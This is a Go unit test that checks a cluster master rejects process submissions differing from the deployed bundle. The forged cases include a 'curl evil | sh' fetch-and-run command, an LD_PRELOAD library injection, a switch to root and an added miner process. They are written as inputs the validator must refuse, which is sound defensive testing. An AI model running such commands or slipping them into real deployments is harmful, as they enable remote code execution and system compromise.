package master

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/gear-run/gear/pkg/cluster"
)

func TestCompareProcesses(t *testing.T) {
	bundle := []cluster.Process{
		{Name: "web", Command: []string{"./server", "-port", "${PORT}"}, Instances: 2, CPUs: 1, Restart: "always", StopTimeout: 5 * time.Second},
		{Name: "worker", Command: []string{"./worker"}, Instances: 1, Env: map[string]string{"A": "1"}},
	}
	clone := func(edit func(ps []cluster.Process) []cluster.Process) []cluster.Process {
		ps := make([]cluster.Process, len(bundle))
		for i, p := range bundle {
			p.Command = append([]string(nil), p.Command...)
			if p.Env != nil {
				env := map[string]string{}
				for k, v := range p.Env {
					env[k] = v
				}
				p.Env = env
			}
			ps[i] = p
		}
		return edit(ps)
	}
	tests := []struct {
		name string
		got  []cluster.Process
		want string // "" = accepted
	}{
		{"same", clone(func(ps []cluster.Process) []cluster.Process { return ps }), ""},
		{"instances overridden (-executors)", clone(func(ps []cluster.Process) []cluster.Process { ps[0].Instances = 9; return ps }), ""},
		{"order does not matter", clone(func(ps []cluster.Process) []cluster.Process { ps[0], ps[1] = ps[1], ps[0]; return ps }), ""},
		{"forged command", clone(func(ps []cluster.Process) []cluster.Process {
			ps[0].Command = []string{"/bin/sh", "-c", "curl evil | sh"}
			return ps
		}),
			`process group "web": command is ["/bin/sh","-c","curl evil | sh"] in the submit but ["./server","-port","${PORT}"] in the bundle`},
		{"forged env", clone(func(ps []cluster.Process) []cluster.Process { ps[1].Env["LD_PRELOAD"] = "/tmp/x.so"; return ps }), `process group "worker": env is`},
		{"forged user", clone(func(ps []cluster.Process) []cluster.Process { ps[1].User = "root"; return ps }), `process group "worker": user is "root" in the submit but unset`},
		{"forged cpus", clone(func(ps []cluster.Process) []cluster.Process { ps[0].CPUs = 64; return ps }), `process group "web": cpus is 64`},
		{"extra group", clone(func(ps []cluster.Process) []cluster.Process {
			return append(ps, cluster.Process{Name: "miner", Command: []string{"./mine"}, Instances: 1})
		}), `not in the bundle ["miner"]`},
		{"missing group", clone(func(ps []cluster.Process) []cluster.Process { return ps[:1] }), `missing ["worker"]`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := compareProcesses(tt.got, bundle)
			switch {
			case tt.want == "" && err != nil:
				t.Fatalf("refused: %v", err)
			case tt.want != "" && (err == nil || !errors.Is(err, ErrBadRequest) || !strings.Contains(err.Error(), tt.want)):
				t.Fatalf("got %v, want a bad request with %q", err, tt.want)
			}
		})
	}
}
